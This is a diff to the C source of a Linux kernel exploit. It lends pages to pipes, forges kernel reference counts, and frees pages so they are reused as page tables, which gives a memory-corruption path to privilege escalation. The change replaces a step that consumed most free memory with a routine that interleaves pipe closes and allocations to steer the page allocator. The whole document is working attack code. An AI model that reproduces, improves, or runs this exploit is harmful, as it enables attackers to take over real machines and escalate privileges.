@@ -9,20 +9,18 @@
 #include <sched.h>
 #include <signal.h>
 #include <sys/mman.h>
-#include <sys/sysinfo.h>
 #include <sys/uio.h>
 #include <unistd.h>
 
 #include "tables.h"
 
-/* More than a CPU keeps of what is freed: an eighth of 256 MB. */
 #define WINDOW_SIZE	(48UL << 20)
 #define PAGES_MOST	(WINDOW_SIZE / 4096)
 #define PIPE_SIZE	(1UL << 20)
 #define PIPES		(WINDOW_SIZE / PIPE_SIZE)
 
-/* Memory to leave free, so that others find some. */
-#define LEFT_FREE	(16UL << 20)
+/* What a pipe holds of pages of its own. */
+#define OWN_PAGES	(16 * 4096)
 
 static char *mapped;
 static u64 counts[PAGES_MOST];	/* where the kernel counts, by page */
@@ -46,22 +44,6 @@ static void *populated(size_t length)
 	return p;
 }
 
-/* Nearly all free memory, so that what is freed then is used next. */
-static struct iovec take_free_memory(void)
-{
-	struct iovec taken = { 0 };
-	struct sysinfo info;
-
-	if (sysinfo(&info))
-		die_errno("sysinfo");
-	taken.iov_len = info.freeram * info.mem_unit;
-	if (taken.iov_len <= LEFT_FREE)
-		die("there is too little memory");
-	taken.iov_len -= LEFT_FREE;
-	taken.iov_base = populated(taken.iov_len);
-	return taken;
-}
-
 /* A second reference to the page, which can be dropped. */
 static int lend(char *start)
 {
@@ -74,6 +56,26 @@ static int lend(char *start)
 		die_errno("lending pages to a pipe");
 	close(fds[1]);
 	return fds[0];
+}
+
+/*
+ * Drop the second references. A CPU keeps more and more of what is freed, which
+ * does not become whole blocks then: unless it allocates meanwhile.
+ */
+static void give_up(int pipes[PIPES])
+{
+	static char buffer[OWN_PAGES];
+	int own[2];
+	size_t i;
+
+	if (pipe(own))
+		die_errno("making a pipe");
+	for (i = 0; i < PIPES; i++) {
+		close(pipes[i]);
+		if (write(own[1], buffer, OWN_PAGES) != OWN_PAGES ||
+		    read(own[0], buffer, OWN_PAGES) != OWN_PAGES)
+			die_errno("allocating pages");
+	}
 }
 
 /*
@@ -128,25 +130,18 @@ int main(int argc, char **argv)
 		.read = mapped_read,
 		.write = mapped_write,
 	};
-	struct iovec taken;
 	int pipes[PIPES];
-	bool won;
 	size_t i;
 
 	mapped = populated(WINDOW_SIZE);
-	taken = take_free_memory();
-
 	/* Before there are pipes, which it would keep open. */
 	keep_address_space();
 	for (i = 0; i < PIPES; i++)
 		pipes[i] = lend(mapped + i * PIPE_SIZE);
 	forge_counts();
-	for (i = 0; i < PIPES; i++)
-		close(pipes[i]);
+	give_up(pipes);
 
-	won = attack_by_window(&window, argc > 1 ? argv[1] : NULL);
-	munmap(taken.iov_base, taken.iov_len);
-	if (!won)
+	if (!attack_by_window(&window, argc > 1 ? argv[1] : NULL))
 		out_of_reach("the memory did not become a page table");
 	return 0;
 }
